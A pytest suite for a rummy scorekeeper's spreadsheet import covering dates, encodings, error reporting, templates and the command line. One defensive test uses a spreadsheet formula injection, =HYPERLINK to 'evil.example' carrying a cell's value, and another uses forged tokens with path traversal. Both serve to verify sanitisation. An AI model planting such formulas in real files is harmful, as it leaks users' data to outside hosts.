"""Importing past games from a spreadsheet: real .xlsx files written by openpyxl and CSVs as
families write them by hand (a byte order mark, semicolons, 1.5.2024 and ISO dates), the
preview with its problems by row and column, questions and name mapping, all or nothing,
the same file twice, the templates, and the command line."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from scorekeeper import rules
from scorekeeper.extensions import db
from scorekeeper.house_rules.service import import_house_rules
from scorekeeper.models import FINISHED, Game, GameRound, PlayerGame, Result
from scorekeeper.transfer.sheet_games import read_sheet
from tests.databases import db_snapshot
from tests.pages import input_value, text_of, texts_by_class
from tests.random_games import our_family

F7 = rules.VARIANTS["family-7"]
S10 = rules.VARIANTS["shanghai-10"]
HEADER = ["Date", "Player", *(f"Round {n}" for n in range(1, 8)), "Notes"]
# Two games of family-7 (every card a multiple of 5; going out scores 0).
GAME_1 = [  # 1 May 2024: Ann 50, Bob 70, Cy 115
    ["Ann", 0, 15, 20, 0, 5, 10, 0],
    ["Bob", 10, 0, 25, 15, 0, 5, 15],
    ["Cy", 5, 10, 0, 30, 20, 0, 50],
]
GAME_2 = [  # 2 May 2024: Ann 135, Bob 95, Dee 60
    ["Ann", 20, 25, 0, 40, 15, 35, 0],
    ["Bob", 0, 30, 5, 10, 0, 40, 10],
    ["Dee", 5, 0, 10, 0, 25, 0, 20],
]


def xlsx(rows: list[list]) -> bytes:
    """A workbook as Excel writes it, first sheet holding ``rows``."""
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_bytes(lines: list[str], bom: bool = True, encoding: str = "utf-8") -> bytes:
    return (("\ufeff" if bom else "") + "\r\n".join(lines) + "\r\n").encode(encoding)


def two_games_workbook() -> bytes:
    rows = [HEADER]
    rows += [[datetime(2024, 5, 1)] + r + [None] for r in GAME_1]
    rows += [[datetime(2024, 5, 2)] + r + ["at Gran's"] for r in GAME_2]
    return xlsx(rows)


def upload(client, raw: bytes, key: str = "family-7", name: str = "games.xlsx"):
    return client.post("/import/sheet", data={"rules": key, "file": (io.BytesIO(raw), name)},
                       content_type="multipart/form-data")


def confirm(client, page, action: str = "import", key: str = "family-7", **answers):
    """Press a button of the preview, with its form as it was drawn plus ``answers``."""
    data = {"rules": key, "token": input_value(page, "token"), "action": action, **answers}
    return client.post("/import/sheet/check", data=data)


def problems(page) -> list[str]:
    """The preview's problems, one line each."""
    html = page.get_data(as_text=True)
    if "problem-list" not in html:
        return []
    listed = html[html.index("problem-list"):]
    listed = listed[:listed.index("</ul>")]
    return [text_of(item) for item in re.findall(r"<li>(.*?)</li>", listed, re.DOTALL)]


def finished_totals(app) -> dict[str, dict[str, int]]:
    """Each finished game's final totals by player, keyed by its day."""
    with app.app_context():
        rows = db.session.execute(
            db.select(Game.started_at, PlayerGame.total, PlayerGame.player_id, PlayerGame.won)
            .join(PlayerGame, PlayerGame.game_id == Game.id).where(Game.status == FINISHED)
        ).all()
        from scorekeeper.models import Player
        names = dict(db.session.execute(db.select(Player.id, Player.name)).all())
        out: dict[str, dict[str, int]] = {}
        for started, total, player_id, _ in rows:
            out.setdefault(started.date().isoformat(), {})[names[player_id]] = total
        return out


# -- reading files ---------------------------------------------------------------------------


def test_an_openpyxl_workbook_imports_as_finished_games_with_the_papers_totals(client, app):
    page = upload(client, two_games_workbook())
    text = text_of(page)
    assert "2 games found, 01 May 2024 to 02 May 2024" in text
    assert "Ann 50 · Bob 70 · Cy 115" in text
    assert problems(page) == []
    done = confirm(client, page)
    assert done.status_code == 302 and done.headers["Location"].endswith("/history")
    assert finished_totals(app) == {
        "2024-05-01": {"Ann": 50, "Bob": 70, "Cy": 115},
        "2024-05-02": {"Ann": 135, "Bob": 95, "Dee": 60},
    }
    history = text_of(client.get("/history"))
    assert "Wed 01 May 2024" in history and "Won by Ann with 50" in history
    assert "Thu 02 May 2024" in history and "Won by Dee with 60" in history


def test_the_player_who_went_out_is_the_one_with_the_going_out_score(client, app):
    confirm(client, upload(client, two_games_workbook()))
    with app.app_context():
        game = db.session.execute(db.select(Game).order_by(Game.started_at)).scalars().first()
        rounds = db.session.execute(
            db.select(GameRound).where(GameRound.game_id == game.id).order_by(GameRound.position)).scalars().all()
        out = [[r.player.name for r in round_.results if r.went_out] for round_ in rounds]
        assert out == [["Ann"], ["Bob"], ["Cy"], ["Ann"], ["Bob"], ["Cy"], ["Ann"]]
        # The others' totals are stored as typed totals, as the card entry stores a total counted by hand.
        bob = rounds[0].results[1]
        assert (bob.hand_total, bob.cards, bob.points, bob.went_out) == (10, "", 10, False)


def test_a_hand_written_csv_with_byte_order_mark_semicolons_and_dotted_dates(client, app):
    # A comma in a column's title does not split the header: the semicolon, more frequent, does.
    lines = ["Date;Player;R1: two sets, of 3;" + ";".join(f"R{n}" for n in range(2, 8)) + ";Notes"]
    lines += ["1.5.2024;" + ";".join(map(str, r)) + ";" for r in GAME_1]
    lines += ["02.05.24;" + ";".join(map(str, r)) + ";at Gran's" for r in GAME_2]
    page = upload(client, csv_bytes(lines), name="paper.csv")
    assert problems(page) == []
    confirm(client, page)
    assert set(finished_totals(app)) == {"2024-05-01", "2024-05-02"}


def test_a_csv_with_commas_iso_dates_the_date_written_once_per_game_and_out_marks(client, app):
    lines = [",".join(HEADER)]
    for day, game in (("2024-05-01", GAME_1), ("2024-05-02", GAME_2)):
        for i, row in enumerate(game):
            cells = [day if i == 0 else "", *("out" if v == 0 and row is game[0] else str(v) for v in row)]
            lines.append(",".join(cells) + ",")
    page = upload(client, csv_bytes(lines, bom=False), name="export.csv")
    assert problems(page) == []
    confirm(client, page)
    assert finished_totals(app)["2024-05-01"] == {"Ann": 50, "Bob": 70, "Cy": 115}


@pytest.mark.parametrize("written, read", [
    ("2024-05-01", date(2024, 5, 1)), ("1.5.2024", date(2024, 5, 1)), ("01.05.2024", date(2024, 5, 1)),
    ("1.5.24", date(2024, 5, 1)), ("1 May 2024", date(2024, 5, 1)), ("May 1, 2024", date(2024, 5, 1)),
    ("2024-05-01 20:30:00", date(2024, 5, 1)),
])
def test_dates_as_families_write_them(written, read):
    cells = [HEADER, [written] + GAME_1[0], [None] + GAME_1[1], [None] + GAME_1[2]]
    sheet = read_sheet(cells, F7, date(2026, 11, 24))
    assert sheet.problems == [] and [g.day for g in sheet.games] == [read]


def test_slashed_dates_follow_the_column_and_are_refused_when_it_cannot_tell():
    def days(*written):
        cells = [HEADER]
        for day in written:
            cells += [[day] + GAME_1[0], [None] + GAME_1[1], [None] + GAME_1[2]]
        sheet = read_sheet(cells, F7, date(2026, 11, 24))
        return [g.day for g in sheet.games], [str(p) for p in sheet.problems]

    assert days("13/5/2024", "3/4/2024") == ([date(2024, 5, 13), date(2024, 4, 3)], [])
    assert days("5/13/2024", "3/4/2024") == ([date(2024, 5, 13), date(2024, 3, 4)], [])
    found, why = days("3/4/2024")
    assert found == [] and "could be day/month or month/day" in why[0] and why[0].startswith("Row 2, column A (Date)")


# -- problems by row and column, all or nothing --------------------------------------------


def test_every_problem_is_named_by_row_and_column_and_nothing_is_written(client, app):
    rows = [HEADER]
    rows += [["yesterday-ish", *GAME_1[0], None]]  # row 2: a date that is not a date
    rows += [[datetime(2024, 5, 1)] + GAME_1[0] + [None]]  # rows 3-5: a good game but for two cells
    rows += [[datetime(2024, 5, 1), "Bob", 10, 1.5, 25, 15, 0, 5, 15, None]]  # D5: not whole
    rows += [[datetime(2024, 5, 1), "Cy", 5, 10, 0, 30, 20, 0, 7, None]]  # I5: no hand makes 7
    rows += [[datetime(2024, 6, 1), "Solo", 0, 0, 0, 0, 0, 0, 0, None]]  # row 6: a one-player game
    rows += [[datetime(2024, 7, 1), "Ann", 0, 15, None, 0, 5, 10, 0, None],  # rows 7-9: round 3 missing for all
             [datetime(2024, 7, 1), "Bob", 10, 0, None, 15, 0, 5, 15, None],
             [datetime(2024, 7, 1), "Cy", 5, 10, None, 30, 20, 0, 50, None]]
    before = db_snapshot(app)
    page = upload(client, xlsx(rows))
    found = problems(page)
    assert found[0] == ("Row 2, column A (Date): 'yesterday-ish' is not a date: write dates as 2024-05-01 or 1.5.2024")
    assert "Row 4, column D (Round 2): 1.5 is not a whole number" in found
    assert any(p.startswith("Row 5, column I (Round 7): Cy: 7 is not a score cards left in a hand can make: ")
               and "every card counts a multiple of 5" in p for p in found)
    assert "Row 6: the game of 01 Jun 2024 has 1 player; Shanghai Rummy (family rules, 7 hands) is for 3 to 8" in found
    assert "Row 7, column E (Round 3): round 3 of the game of 01 Jul 2024 is missing" in found
    assert "Import" not in [b.strip() for b in texts_by_class(page, "btn-primary")]
    # Pressing import anyway (an old tab, a crafted post) writes nothing.
    again = confirm(client, page)
    assert again.status_code == 200 and problems(again) == found
    assert db_snapshot(app) == before


def test_a_missing_score_a_player_twice_and_a_wrong_total_column(client, app):
    rows = [HEADER[:-1] + ["Total", "Notes"]]
    rows += [[datetime(2024, 5, 1)] + GAME_1[0] + [50, None],
             [datetime(2024, 5, 1)] + GAME_1[1] + [70, None],
             [datetime(2024, 5, 1)] + GAME_1[2] + [110, None],  # the paper's adding up was wrong
             [datetime(2024, 5, 2)] + GAME_2[0] + [None, None],
             [datetime(2024, 5, 2)] + GAME_2[1][:3] + [None] + GAME_2[1][4:] + [None, None],  # E6 blank
             [datetime(2024, 5, 2)] + GAME_2[2] + [None, None],
             [datetime(2024, 5, 2), "ann", *GAME_2[2][1:], None, None]]  # Ann again in the same game
    found = problems(upload(client, xlsx(rows)))
    assert found == [
        "Row 4, column J (Total): Cy's total is written as 110, but the rounds add up to 115",
        "Row 6, column E (Round 3): Bob: no score written",
        "Row 8, column B (Player): ann is twice in the game of 02 May 2024: give two games of one day different notes",
    ]


def test_the_preview_shows_no_totals_for_a_game_with_a_round_it_could_not_read(client, app):
    rows = [HEADER, [datetime(2024, 5, 1)] + GAME_1[0] + [None],
            [datetime(2024, 5, 1), "Bob", 10, 0, "2x", 15, 0, 5, 15, None],  # round 3 unreadable
            [datetime(2024, 5, 1)] + GAME_1[2] + [None]]
    rows += [[datetime(2024, 5, 2)] + row + [None] for row in GAME_2]
    page = upload(client, xlsx(rows))
    assert problems(page) == ["Row 3, column E (Round 3): '2x' is not a whole number"]
    games = texts_by_class(page, "sheet-games")[0]
    # Without round 3 the totals would be Ann 30, Bob 45, Cy 115: not what the sheet adds up to, so none.
    assert "Ann · Bob · Cy · no totals yet: round 3 is not read (see above)" in games
    assert "Ann 30" not in games and "Bob 45" not in games
    assert "Ann 135 · Bob 95 · Dee 60" in games  # the other game, read whole


def test_going_out_bonuses_of_the_rules_are_read_from_the_score(client, app):
    header = ["Date", "Player", *(f"Deal {n}" for n in range(1, 11))]
    rows = [header,
            ["2024-05-01", "Ann", -25, 5, 10, 15, 20, 25, 30, 35, 40, -50],
            ["2024-05-01", "Bob", 15, -50, 0, 5, 10, 15, 20, 25, 30, 45],
            ["2024-05-01", "Cy", 30, 35, 40, 0, 0, 0, 0, 0, 0, 60]]
    page = upload(client, xlsx(rows), key="shanghai-10")
    assert problems(page) == [] and "Ann 105 · Bob 115 · Cy 165" in text_of(page)
    confirm(client, page, key="shanghai-10")
    with app.app_context():
        results = db.session.execute(db.select(Result).where(Result.went_out)).scalars().all()
        codes = sorted((r.points, r.bonus_code) for r in results)
    assert codes[:3] == [(-50, "blind-no-joker"), (-50, "blind-no-joker"), (-25, "blind")]
    assert finished_totals(app)["2024-05-01"] == {"Ann": 105, "Bob": 115, "Cy": 165}


# -- questions, names, twice -----------------------------------------------------------------


def test_a_round_with_two_going_out_scores_asks_who_went_out(client, app):
    rows = [HEADER] + [[datetime(2024, 5, 1)] + r + [None] for r in GAME_1]
    rows[2][3] = 0  # Bob's round 2 was 0 already; make Cy's round 2 a 0 as well
    rows[3][3] = 0
    page = upload(client, xlsx(rows))
    assert "Who went out?" in text_of(page) and "Row 2: the game of 01 May 2024, round 2" in text_of(page)
    assert "Answer who went out, then check again." in text_of(page)
    # Cy went out; Bob's 0 is then a score no hand left in play can make.
    answered = confirm(client, page, action="check", **{"out:2:2": "Cy"})
    assert problems(answered) == ["Row 3, column D (Round 2): Bob: 0 is a going-out score, and another player went out"]
    rows[2][3] = 10
    page = upload(client, xlsx(rows))
    assert problems(page) == [] and "Who went out?" not in text_of(page)


def test_a_round_where_nobody_has_the_going_out_score_asks_and_the_blank_is_the_answer(client, app):
    rows = [HEADER] + [[datetime(2024, 5, 1)] + r + [None] for r in GAME_1]
    rows[1][2] = None  # Ann's 0 in round 1 left blank, as some paper sheets do
    page = upload(client, xlsx(rows))
    assert "round 1" in text_of(page) and problems(page) == []
    done = confirm(client, page, **{"out:2:1": "Ann"})
    assert done.status_code == 302
    assert finished_totals(app)["2024-05-01"] == {"Ann": 50, "Bob": 70, "Cy": 115}


def test_unknown_names_become_new_players_or_the_players_they_are(client, app, actions):
    actions.new_game("family-7", ["Ann", "Robert", "Cy"])
    page = upload(client, two_games_workbook())
    text = text_of(page)
    assert "Ann already in the family" in text and "New player “Bob”" in text and "New player “Dee”" in text
    done = confirm(client, page, **{"map:bob": "Robert"})
    assert done.status_code == 302
    totals = finished_totals(app)
    assert totals["2024-05-01"] == {"Ann": 50, "Robert": 70, "Cy": 115}
    with app.app_context():
        from scorekeeper.families import family_players
        assert sorted(p.name for p in family_players(our_family())) == ["Ann", "Cy", "Dee", "Robert"]


def test_importing_the_same_file_twice_adds_nothing(client, app):
    raw = two_games_workbook()
    confirm(client, upload(client, raw))
    before = db_snapshot(app)
    page = upload(client, raw)
    assert "2 of them are already in the history and will be skipped" in text_of(page)
    assert "there is nothing new to import" in text_of(page)
    again = confirm(client, page)
    assert again.status_code == 302
    with app.app_context():
        assert db.session.execute(db.select(db.func.count(Game.id))).scalar_one() == 2
    after = db_snapshot(app)
    assert {k: v for k, v in after.items() if k != "family"} == {k: v for k, v in before.items() if k != "family"}


def test_the_imported_games_count_in_statistics_and_export(client, app):
    confirm(client, upload(client, two_games_workbook()))
    players = text_of(client.get("/players"))
    assert "Ann" in players and "Dee" in players
    export = client.get("/export.json").get_data(as_text=True)
    assert export.count('"status": "finished"') == 2 or export.count('"status":"finished"') == 2


def test_house_rules_with_a_going_out_bonus(client, app):
    with app.app_context():
        gran = dataclasses.replace(F7, key="house-x", name="Gran's rules", going_out_bonus=10)
        row, _ = import_house_rules(our_family(), gran)
        key = row.key
    rows = [HEADER] + [[datetime(2024, 5, 1)] + [r[0]] + [-10 if v == 0 else v for v in r[1:]] + [None] for r in GAME_1]
    page = upload(client, xlsx(rows), key=key)
    assert problems(page) == []
    confirm(client, page, key=key)
    assert finished_totals(app)["2024-05-01"] == {"Ann": 20, "Bob": 50, "Cy": 95}
    with app.app_context():
        assert db.session.execute(db.select(Game.variant_key)).scalar_one() == key


def test_a_game_that_skipped_hand_1_where_the_rules_allow_it(client, app):
    rows = [HEADER] + [[datetime(2024, 5, 1), r[0], None, *r[2:], None] for r in GAME_1]
    page = upload(client, xlsx(rows))
    assert problems(page) == [] and "6 rounds" in text_of(page)
    confirm(client, page)
    with app.app_context():
        game = db.session.execute(db.select(Game)).scalar_one()
        assert game.skip_first_hand and [r.number for r in game.rounds] == [2, 3, 4, 5, 6, 7]


# -- files that are not sheets, and a changed preview ------------------------------------


@pytest.mark.parametrize("raw, message", [
    (b"", "The file is empty."),
    (b"  \r\n\t\r\n", "The file is empty."),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "old Excel file (.xls)"),
    (b"PK\x03\x04garbage", "damaged or not a spreadsheet"),
    (b"Name,Age\nAnn,7\n", "No header row with a Date and a Player column"),
])
def test_a_file_that_cannot_be_read_is_refused_next_to_the_field(client, app, raw, message):
    page = upload(client, raw, name="x.xlsx")
    assert page.status_code == 200 and message in text_of(page)


def test_an_ods_file_is_refused_with_what_to_do(client, app):
    import zipfile
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<x/>")
    assert "Save it as .xlsx" in text_of(upload(client, out.getvalue(), name="games.ods"))


def test_a_preview_token_never_given_or_of_another_family_is_refused_without_an_error_page(client, app, actions):
    from tests.databases import strict_client
    page = upload(client, two_games_workbook())
    token = input_value(page, "token")
    for forged in ("not-a-token!", token[:-1] + ("A" if token[-1] != "A" else "B"), "", "../" * 10 + "x" * 2):
        page = client.post("/import/sheet/check", data={"rules": "family-7", "token": forged, "action": "import"},
                           follow_redirects=True)
        assert page.status_code == 200 and "choose the file again" in text_of(page).lower()
    actions.add_member("Other family", "other")
    other = strict_client(app, "other")
    page = other.post("/import/sheet/check", data={"rules": "family-7", "token": token, "action": "import"},
                      follow_redirects=True)
    assert "choose the file again" in text_of(page).lower() and finished_totals(app) == {}
    # Unknown rules are a form error.
    page = client.post("/import/sheet/check", data={"rules": "nonsense", "token": token}, follow_redirects=True)
    assert page.status_code == 200 and "choose the file again" in text_of(page).lower()


@pytest.mark.slow  # a sweep or a long build: in the full suite, not the quick loop
def test_the_preview_form_carries_a_token_only_so_a_large_sheet_imports_under_the_form_limit(client, app):
    """2,000 games with eight free-text columns: the form is the token, not the cells."""
    header = HEADER + [f"Remark {i}" for i in range(8)]
    lines = [",".join(header)]
    for game in range(2000):
        day = date(2000, 1, 1).toordinal() + game
        for row in GAME_1:
            lines.append(",".join([date.fromordinal(day).isoformat(), *map(str, row), "",
                                   *(f"free text {game} {i} " + "x" * 40 for i in range(8))]))
    page = upload(client, csv_bytes(lines), name="games.csv")
    assert problems(page) == [] and "Remark 0" in text_of(page)
    assert len(input_value(page, "token")) == 32
    done = confirm(client, page)
    assert done.status_code == 302, text_of(done)
    assert len(finished_totals(app)) == 2000


def test_a_second_tap_on_import_imports_nothing_twice(client, app):
    page = upload(client, two_games_workbook())
    first = confirm(client, page)
    assert first.status_code == 302 and len(finished_totals(app)) == 2
    before = db_snapshot(app)
    again = confirm(client, page)
    assert again.status_code == 302
    assert "expired or was already imported" in text_of(client.get(again.headers["Location"]))
    assert db_snapshot(app) == before


# -- templates -------------------------------------------------------------------------------


@pytest.mark.parametrize("key", list(rules.VARIANTS))
def test_a_template_per_rule_set_has_a_column_per_round_headed_by_its_contract(client, key):
    variant = rules.VARIANTS[key]
    book = load_workbook(io.BytesIO(client.get(f"/import/sheet/template/{key}.xlsx").data))
    header = [c.value for c in book.worksheets[0][1]]
    assert header == ["Date", "Player", *(f"Round {r.number}: {r.contract}" for r in variant.rounds), "Notes"]
    csv_text = client.get(f"/import/sheet/template/{key}.csv").data.decode("utf-8-sig")
    assert csv_text.splitlines()[0].count("Round ") == len(variant.rounds)


def test_a_filled_in_template_imports(client, app):
    book = load_workbook(io.BytesIO(client.get("/import/sheet/template/family-7.xlsx").data))
    for row in GAME_2:
        book.worksheets[0].append([date(2024, 5, 2), *row, "after dinner"])
    out = io.BytesIO()
    book.save(out)
    page = upload(client, out.getvalue())
    assert problems(page) == []
    confirm(client, page)
    assert finished_totals(app) == {"2024-05-02": {"Ann": 135, "Bob": 95, "Dee": 60}}


def test_another_familys_house_rules_template_is_not_found(client):
    assert client.get("/import/sheet/template/house-999.xlsx").status_code == 404


# -- command line -----------------------------------------------------------------------------


def test_the_command_line_checks_with_dry_run_then_imports_once(app, runner, tmp_path):
    path = tmp_path / "games.xlsx"
    path.write_bytes(two_games_workbook())
    before = db_snapshot(app)
    dry = runner.invoke(args=["import-sheet", str(path), "--rules", "family-7", "--dry-run"])
    assert dry.exit_code == 0, dry.output
    assert "2 games read as Shanghai Rummy (family rules, 7 hands); 0 already here." in dry.output
    assert "New players: Ann, Bob, Cy, Dee." in dry.output and "Nothing written" in dry.output
    assert db_snapshot(app) == before
    done = runner.invoke(args=["import-sheet", str(path), "--rules", "family-7", "--family", "Our family"])
    assert "Imported 2 games (0 were already here)." in done.output
    again = runner.invoke(args=["import-sheet", str(path), "--rules", "family-7"])
    assert "Imported 0 games (2 were already here)." in again.output
    assert len(finished_totals(app)) == 2


def test_the_command_line_reports_problems_and_takes_answers(app, runner, tmp_path):
    rows = [HEADER] + [[datetime(2024, 5, 1)] + r + [None] for r in GAME_1]
    rows[3][3] = 0  # Cy and Bob both 0 in round 2
    path = tmp_path / "games.xlsx"
    path.write_bytes(xlsx(rows))
    asked = runner.invoke(args=["import-sheet", str(path), "--rules", "family-7"])
    assert asked.exit_code == 1 and "--out 2:2=NAME (Bob or Cy)" in asked.output
    rows[3][3] = 10
    rows[1][1] = "Gran"
    path.write_bytes(xlsx(rows))
    with app.app_context():
        from scorekeeper.games.service import SeatChoice, start_game
        start_game(our_family(), F7, [SeatChoice(new_name=n) for n in ("Ann", "Bob", "Cy")], 0)
    done = runner.invoke(args=["import-sheet", str(path), "--rules", "family-7", "--as", "Gran=Ann"])
    assert done.exit_code == 0, done.output
    assert finished_totals(app)["2024-05-01"] == {"Ann": 50, "Bob": 70, "Cy": 115}
    wrong = runner.invoke(args=["import-sheet", str(path), "--rules", "nope"])
    assert wrong.exit_code == 1 and "No rules 'nope' here" in wrong.output


def test_a_sheet_larger_than_the_page_can_import_points_to_the_command_line(client, app, monkeypatch):
    from scorekeeper.transfer import checks
    monkeypatch.setattr(checks, "WEB_LIMITS", checks.Limits(games=1, rule_sets=1, house_rules=1))
    before = db_snapshot(app)
    page = confirm(client, upload(client, two_games_workbook()))
    assert "more than the page can import at once (1 at most)" in text_of(page)
    assert "flask --app scorekeeper import-sheet FILE --rules family-7" in text_of(page)
    assert db_snapshot(app) == before


def test_a_csv_cell_longer_than_csv_allows_is_refused_next_to_the_field(client):
    raw = b"Date,Player,Round 1\r\n2024-05-01,Ann,\"" + b"9\n" * 20_000 + b"\"\r\n"
    assert "This CSV file cannot be read: Row 2 has a cell of more than 1,000 characters" in text_of(
        upload(client, raw, name="x.csv"))


def test_a_workbook_with_a_damaged_cell_is_refused_next_to_the_field(client):
    import zipfile
    source = io.BytesIO(two_games_workbook())
    out = io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(out, "w") as new:
        for item in old.infolist():
            data = old.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<v>15</v>", b"<v>NaN</v>", 1)
            new.writestr(item, data)
    assert "This workbook cannot be read" in text_of(upload(client, out.getvalue()))


def test_a_sheets_own_totals_row_is_left_out_not_taken_for_a_player(client, app):
    rows = [HEADER] + [[datetime(2024, 5, 1)] + r + [None] for r in GAME_1]
    rows.append([None, "Total", 15, 25, 45, 45, 25, 15, 65, None])
    page = upload(client, xlsx(rows))
    assert problems(page) == [] and "row 5 (Total)" in text_of(page)
    confirm(client, page)
    assert finished_totals(app) == {"2024-05-01": {"Ann": 50, "Bob": 70, "Cy": 115}}


def test_a_four_digit_year_is_read_as_written():
    cells = [HEADER, ["1.5.0024"] + GAME_1[0], [None] + GAME_1[1], [None] + GAME_1[2]]
    sheet = read_sheet(cells, F7, date(2026, 11, 24))
    assert [str(p) for p in sheet.problems][0].endswith("is before 1900") and sheet.games == []


def test_a_template_of_house_rules_with_a_control_character(client, app):
    with app.app_context():
        odd = dataclasses.replace(F7, key="house-x", name="Gran\x0bs rules", rounds=(
            dataclasses.replace(F7.rounds[0], contract="two\x0bsets"), *F7.rounds[1:]))
        key = import_house_rules(our_family(), odd)[0].key
    book = load_workbook(io.BytesIO(client.get(f"/import/sheet/template/{key}.xlsx").data))
    assert book.worksheets[0]["C1"].value == "Round 1: twosets"


def test_the_pages_titles(client):
    assert "<title>Import old score sheets · " in client.get("/import/sheet").get_data(as_text=True)


# -- files as Excel writes them, and numbers past any hand ------------------------------------


def game_1_lines(delimiter: str = ",") -> list[str]:
    return [delimiter.join(HEADER)] + [delimiter.join(["2024-05-01", *map(str, r), ""]) for r in GAME_1]


@pytest.mark.parametrize("encoding, delimiter", [("utf-16", "\t"), ("utf-16-le", "\t"), ("utf-16-be", ",")])
def test_excels_unicode_text_in_utf16_imports(client, app, encoding, delimiter):
    raw = "\r\n".join(game_1_lines(delimiter)).encode(encoding)  # "utf-16" writes the byte order mark
    page = upload(client, raw, name="games.txt")
    assert problems(page) == [], text_of(page)
    confirm(client, page)
    assert finished_totals(app) == {"2024-05-01": {"Ann": 50, "Bob": 70, "Cy": 115}}


def test_a_csv_with_carriage_returns_alone_as_csv_macintosh_writes_it(client, app):
    raw = ("\r".join(game_1_lines()) + "\r").encode("cp1252")
    page = upload(client, raw, name="games.csv")
    assert problems(page) == [], text_of(page)
    confirm(client, page)
    assert finished_totals(app) == {"2024-05-01": {"Ann": 50, "Bob": 70, "Cy": 115}}


@pytest.mark.parametrize("column", ["score", "total"])
def test_a_score_or_total_of_hundreds_of_digits_is_a_problem_not_an_error(client, app, column):
    header = HEADER[:-1] + ["Total", "Notes"]
    rows = [[*r, sum(r[1:])] for r in GAME_1]
    huge = "9" * 900
    if column == "score":
        rows[1][2] = huge
    else:
        rows[1][8] = huge
    lines = [",".join(header)] + [",".join(["2024-05-01", *map(str, r), ""]) for r in rows]
    before = db_snapshot(app)
    page = upload(client, csv_bytes(lines), name="games.csv")
    found = problems(page)
    if column == "score":
        assert found == ["Row 3, column D (Round 2): '99999999999999999999…' is far more than any hand is worth"]
    else:
        assert found == ["Row 3, column J (Total): Bob's total is written as 9999999999999999999…, "
                         "but the rounds add up to 70"]
    assert db_snapshot(app) == before


def test_a_cell_of_4301_digits_is_refused_before_any_number_is_read(client, app):
    lines = game_1_lines()
    lines[2] = lines[2].replace(",10,", "," + "9" * 4301 + ",", 1)
    page = upload(client, csv_bytes(lines), name="games.csv")
    assert "Row 3 has a cell of more than 1,000 characters" in text_of(page)


def test_a_float_score_far_past_any_hand_is_a_problem(client, app):
    rows = [HEADER] + [[datetime(2024, 5, 1), *r, None] for r in GAME_1]
    rows[2][3] = 1e300
    assert problems(upload(client, xlsx(rows))) == ["Row 3, column D (Round 2): 1e+300 is far more than any hand is worth"]


def test_a_house_rules_name_like_a_formula_is_text_in_the_templates(client, app):
    with app.app_context():
        odd = dataclasses.replace(F7, key="house-x", name='=HYPERLINK("http://evil.example/"&A1,"Help")', rounds=(
            dataclasses.replace(F7.rounds[0], contract="@SUM(1)"), *F7.rounds[1:]))
        key = import_house_rules(our_family(), odd)[0].key
    raw = client.get(f"/import/sheet/template/{key}.xlsx").data
    import zipfile
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheets_xml = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets_xml and not any(b"<f>" in x or b"<f " in x for x in sheets_xml)
    book = load_workbook(io.BytesIO(raw))
    help_cell = book.worksheets[1]["A1"]
    assert help_cell.data_type == "s" and help_cell.value.startswith("'=HYPERLINK(")
    every = [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value]
    assert not any(str(v)[:1] in "=+-@" for v in every)
    csv_text = client.get(f"/import/sheet/template/{key}.csv").data.decode("utf-8-sig")
    assert not any(cell[:1] in "=+-@" for cell in next(iter(__import__("csv").reader(io.StringIO(csv_text)))))


def test_the_import_uses_the_previews_reading_unless_an_answer_changed_it(client, app, monkeypatch):
    from scorekeeper.transfer import sheet_import

    read = []
    real = sheet_import.read_sheet
    monkeypatch.setattr(sheet_import, "read_sheet", lambda *a, **k: read.append(1) or real(*a, **k))
    rows = [HEADER] + [[datetime(2024, 5, 1)] + r + [None] for r in GAME_1]
    rows[1][2] = None  # nobody has round 1's going-out score: the preview asks
    page = upload(client, xlsx(rows))
    answered = confirm(client, page, action="check", **{"out:2:1": "Ann"})  # an answer: read again
    assert len(read) == 2 and problems(answered) == []
    done = confirm(client, answered, **{"out:2:1": "Ann"})  # the same answer: the reading kept is imported
    assert done.status_code == 302 and len(read) == 2
    assert finished_totals(app)["2024-05-01"] == {"Ann": 50, "Bob": 70, "Cy": 115}


def test_a_sheet_written_a_few_games_at_a_time_keeps_each_games_hands_totals_ratings_and_figures(
    client, app, monkeypatch,
):
    """A large sheet goes in a chunk of games at a time, the next chunk's rows made while one is
    written: each game keeps its own hands, totals and winner, and the ratings and kept figures
    are those of the whole history counted again."""
    from scorekeeper.transfer import importing
    from tests.attack_files import sheet_of_games
    from tests.test_kept import assert_kept_equals_recount
    from tests.test_ratings import _assert_kept_equals_rebuild

    monkeypatch.setattr(importing, "CHUNK", 2)
    raw = sheet_of_games(7, players=4)
    written: dict[str, dict[str, int]] = {}
    for line in list(csv.reader(io.StringIO(raw.decode())))[1:]:
        written.setdefault(line[0], {})[line[1]] = sum(int(score) for score in line[2:-1])
    assert confirm(client, upload(client, raw, name="games.csv")).status_code == 302
    assert finished_totals(app) == written
    with app.app_context():
        hands = db.session.execute(
            db.select(GameRound.game_id, Result.player_id, db.func.sum(Result.points), db.func.count())
            .join(Result, Result.round_id == GameRound.id).group_by(GameRound.game_id, Result.player_id)
        ).all()
        totals = db.session.execute(db.select(PlayerGame.game_id, PlayerGame.player_id, PlayerGame.total)).all()
        assert sorted((g, p, t) for g, p, t, _ in hands) == sorted(totals) and len(totals) == 7 * 4
        assert {count for *_, count in hands} == {len(F7.rounds)}
        assert_kept_equals_recount(our_family().id)
        assert _assert_kept_equals_rebuild(our_family().id)
    last = written[max(written)]
    low = min(last.values())
    winners = " & ".join(name for name, total in last.items() if total == low)
    assert f"Won by {winners} with {low}" in text_of(client.get("/history"))
